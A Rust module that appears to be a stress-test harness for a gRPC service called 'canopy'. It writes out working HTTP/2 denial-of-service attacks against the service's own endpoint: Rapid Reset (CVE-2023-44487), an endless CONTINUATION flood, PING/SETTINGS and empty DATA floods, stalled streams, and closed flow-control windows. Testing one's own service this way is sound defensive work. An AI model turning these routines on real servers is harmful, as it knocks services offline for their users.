// SPDX-License-Identifier: Apache-2.0
//! HTTP/2 frames of agents with a valid certificate, as no library sends them.

use std::io;
use std::sync::Arc;
use std::time::Instant;

use tokio::io::AsyncWriteExt;
use tokio_rustls::rustls::ClientConfig;

use super::{each, keep};
use crate::ground::Ground;
use crate::wire::{self, CONTINUATION, DATA, END_STREAM, HEADERS, HERE, Http2, PING, RST_STREAM, SETTINGS, frame};

/// Connections of one key that the controller takes.
pub(super) const OF_KEY: usize = 16;
/// Calls on one of them.
pub(super) const OF_CONNECTION: u32 = 1024;
/// More than any answer has.
pub(super) const OPEN: u32 = 1 << 30;
pub(super) const WATCH_GROUP: &str = "/canopy.v1.MembershipService/WatchGroup";
pub(super) const TELEMETRY: &str = "/canopy.v1.NodeService/StreamTelemetry";
const JOIN: &str = "/canopy.v1.MembershipService/Join";

pub(super) async fn begin(ground: &Ground, keys: &Arc<ClientConfig>, answers: u32) -> io::Result<Http2> {
    Http2::begin(wire::tls(HERE, ground.grpc, keys.clone()).await?, answers).await
}

/// CVE-2023-44487.
pub(super) async fn rapid_reset(ground: Ground, until: Instant) {
    each(OF_KEY, until, move |_| {
        let ground = ground.clone();
        async move {
            let mut http2 = begin(&ground, &ground.keys.node, OPEN).await?;
            let mut stream = 1;
            loop {
                let mut octets = Vec::new();
                for _ in 0..50 {
                    octets.extend(frame(HEADERS, 4, stream, &wire::block(JOIN)));
                    octets.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                    stream += 2;
                }
                http2.send(&octets).await?;
            }
        }
    })
    .await;
}

/// A header block that never ends (CVE-2024-27983 and others).
pub(super) async fn continuation(ground: Ground, until: Instant) {
    each(OF_KEY, until, move |_| {
        let ground = ground.clone();
        async move {
            let mut http2 = begin(&ground, &ground.keys.node, OPEN).await?;
            http2.send(&frame(HEADERS, 0, 1, &wire::block(JOIN))).await?;
            // A header of 16 KiB that is new each time.
            let mut header = vec![0x00, 1, b'x', 0x7F, 0x81, 0x7D];
            header.extend(vec![b'y'; 16_000]);
            loop {
                http2.send(&frame(CONTINUATION, 0, 1, &header)).await?;
            }
        }
    })
    .await;
}

/// Each wants an answer, and no answer is read.
pub(super) async fn control_frames(ground: Ground, until: Instant) {
    each(OF_KEY, until, move |n| {
        let ground = ground.clone();
        async move {
            let mut wire = wire::tls(HERE, ground.grpc, ground.keys.node.clone()).await?;
            wire.write_all(wire::PREFACE).await?;
            wire.write_all(&wire::window(OPEN)).await?;
            let one = if n % 2 == 0 { frame(PING, 0, 0, &[7; 8]) } else { frame(SETTINGS, 0, 0, &[]) };
            let many = one.repeat(500);
            loop {
                wire.write_all(&many).await?;
            }
        }
    })
    .await;
}

pub(super) async fn empty_data(ground: Ground, until: Instant) {
    each(OF_KEY, until, move |_| {
        let ground = ground.clone();
        async move {
            let mut http2 = begin(&ground, &ground.keys.host, OPEN).await?;
            http2.call(1, JOIN).await?;
            let many = frame(DATA, 0, 1, &[]).repeat(500);
            loop {
                http2.send(&many).await?;
            }
        }
    })
    .await;
}

/// Calls that begin, and of which nothing follows.
pub(super) async fn no_message(ground: Ground, until: Instant) {
    each(OF_KEY, until, move |_| {
        let ground = ground.clone();
        async move {
            let mut http2 = begin(&ground, &ground.keys.host, OPEN).await?;
            for stream in 0..OF_CONNECTION {
                http2.call(2 * stream + 1, JOIN).await?;
            }
            keep(http2).await
        }
    })
    .await;
}

/// Watches whose answers have no room.
pub(super) async fn closed_windows(ground: Ground, until: Instant) {
    let watched = wire::field(1, b"watched");
    let message = wire::message(watched.len(), &watched);
    each(OF_KEY, until, move |_| {
        let (ground, message) = (ground.clone(), message.clone());
        async move {
            let mut http2 = begin(&ground, &ground.keys.host, 0).await?;
            for stream in 0..OF_CONNECTION {
                let stream = 2 * stream + 1;
                http2.call(stream, WATCH_GROUP).await?;
                http2.send(&frame(DATA, END_STREAM, stream, &message)).await?;
            }
            keep(http2).await
        }
    })
    .await;
}
